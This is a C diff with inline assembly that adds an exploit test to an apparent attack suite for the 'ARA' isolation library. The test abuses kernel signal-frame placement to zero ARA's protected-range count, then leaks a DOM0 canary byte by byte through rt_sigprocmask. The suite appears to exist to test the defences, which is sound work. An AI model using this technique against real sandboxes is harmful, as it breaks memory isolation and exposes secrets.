@@ -297,8 +297,11 @@ static uint64_t memfd_base(const char *name)
 	return base;
 }
 
-/* st_value of a symbol in the file's .symtab (libara.so is not stripped), or 0. */
-static uint64_t symbol(const char *file, const char *name)
+/*
+ * st_value of a symbol in the file's .symtab (libara.so is not stripped), or
+ * 0; its st_size in *size if size is not NULL.
+ */
+static uint64_t symbol_sized(const char *file, const char *name, uint64_t *size)
 {
 	static unsigned char img[4 << 20];
 	FILE *f = fopen(file, "rb");
@@ -319,10 +322,18 @@ static uint64_t symbol(const char *file, const char *name)
 
 		for (size_t j = 0; j < sh[i].sh_size / sizeof(*sym); j++)
 			if (sym[j].st_name < str->sh_size && str->sh_offset + str->sh_size <= n &&
-			    strcmp((const char *)img + str->sh_offset + sym[j].st_name, name) == 0)
+			    strcmp((const char *)img + str->sh_offset + sym[j].st_name, name) == 0) {
+				if (size)
+					*size = sym[j].st_size;
 				return sym[j].st_value;
+			}
 	}
 	return 0;
+}
+
+static uint64_t symbol(const char *file, const char *name)
+{
+	return symbol_sized(file, name, NULL);
 }
 
 struct fake_cb { /* struct ara_gate_cb (ara/gate.h) */
@@ -668,6 +679,88 @@ static uint64_t libara_symbol(const char *name)
 }
 
 /*
+ * The kernel writes a signal frame with every key enabled, below the
+ * interrupted sp unless the action is SA_ONSTACK (IV5). App code points sp
+ * just above the count of ARA's protected ranges (the last field of
+ * ara_protected) and makes a call ARA traps, with x29 = x30 = 0. Without
+ * ARA's signal stacks, the frame record (those two registers) zeroes the
+ * count, and the frame itself lands in ARA's initialisation stack, unused
+ * by then. With no protected range left, ARA copies arguments in from any
+ * address: rt_sigprocmask (which ARA performs) takes a new mask from DOM0's
+ * canary, and the old mask gives it back, a byte per call (the mask drops
+ * the bits of SIGKILL, SIGSTOP and SIGSYS, none in byte 0).
+ */
+static long rt_sigprocmask_at_sp(uint64_t sp)
+{
+	register long x0 __asm__("x0") = SIG_BLOCK;
+	register long x1 __asm__("x1") = 0;
+	register long x2 __asm__("x2") = 0;
+	register long x3 __asm__("x3") = 8;
+	register long x8 __asm__("x8") = SYS_rt_sigprocmask;
+
+	__asm__ volatile("mov x10, sp\n"
+			 "mov x11, x29\n"
+			 "mov x12, x30\n"
+			 "mov sp, %[sp]\n"
+			 "mov x29, xzr\n"
+			 "mov x30, xzr\n"
+			 "svc #0\n"
+			 "mov sp, x10\n"
+			 "mov x29, x11\n"
+			 "mov x30, x12\n"
+			 : "+r"(x0)
+			 : "r"(x1), "r"(x2), "r"(x3), "r"(x8), [sp] "r"(sp)
+			 : "x10", "x11", "x12", "memory");
+	return x0;
+}
+
+static int attack_signal_frame_dom0(void)
+{
+	/*
+	 * struct rt_sigframe, and what the kernel fills of it: siginfo, the
+	 * context and its records up to the terminator, about 1.2 KiB here.
+	 */
+	const size_t frame_size = 4688, frame_written = 1536;
+	uint64_t list_size = 0, stack_size = 0;
+	const uint64_t base = memfd_base("ara-libara");
+	const uint64_t list = base + symbol_sized(libara_file, "ara_protected", &list_size);
+	const uint64_t stack = base + symbol_sized(libara_file, "ara_init_stack", &stack_size);
+	const uint64_t canary = libara_symbol("dom0_canary");
+	uint64_t record, zero = 0, got;
+	unsigned char stolen[48];
+	long rc;
+
+	if (!base || list == base || stack == base || !canary || list_size < 8) {
+		printf("FAIL: cannot find libara's ara_protected or ara_init_stack in %s\n", libara_file);
+		return 1;
+	}
+	record = (list + list_size - 8) & ~UINT64_C(15); /* x29 or x30 lands on the count */
+	if (record - frame_size < stack || record - frame_size + frame_written > stack + stack_size) {
+		printf("FAIL: the frame would not land in ARA's initialisation stack (layout changed)\n");
+		return 1;
+	}
+	rc = rt_sigprocmask_at_sp(record + 16);
+	printf("a trapped rt_sigprocmask with sp in DOM0 returned %ld\n", rc);
+	for (size_t i = 0; i < sizeof(stolen); i++) {
+		rc = syscall(SYS_rt_sigprocmask, SIG_SETMASK, (void *)(uintptr_t)(canary + i), NULL, 8);
+		if (rc != 0) {
+			if (i == 0 && errno == EFAULT) {
+				printf("ara-evidence: signal frame at an sp in DOM0: ARA still refuses to copy "
+				       "from DOM0 (EFAULT)\n");
+				return 0;
+			}
+			printf("FAIL: rt_sigprocmask from DOM0 failed with errno %d after %zu bytes\n", errno, i);
+			return 1;
+		}
+		syscall(SYS_rt_sigprocmask, SIG_SETMASK, &zero, &got, 8);
+		stolen[i] = (unsigned char)got;
+	}
+	printf("BREACH: the kernel's signal frame zeroed ARA's protected-range count\n");
+	attack_show_leak(stolen, sizeof(stolen), canary);
+	return 1;
+}
+
+/*
  * write() of [src, src + len) to a fresh pipe: 1 if refused with EFAULT,
  * else shows what got out. Fresh, because a refused write() still takes
  * one of the pipe's 16 slots (empty): 16 of them and the next one blocks.
@@ -1004,6 +1097,7 @@ static const struct attack {
 	{ "personality", attack_personality },
 	{ "process_madvise", attack_process_madvise },
 	{ "futex_wake_op", attack_futex_wake_op },
+	{ "signal_frame_dom0", attack_signal_frame_dom0 },
 	{ "forged_sigsys_mmap", attack_forged_sigsys_mmap },
 	{ "core_dump_child", attack_core_dump_child },
 };
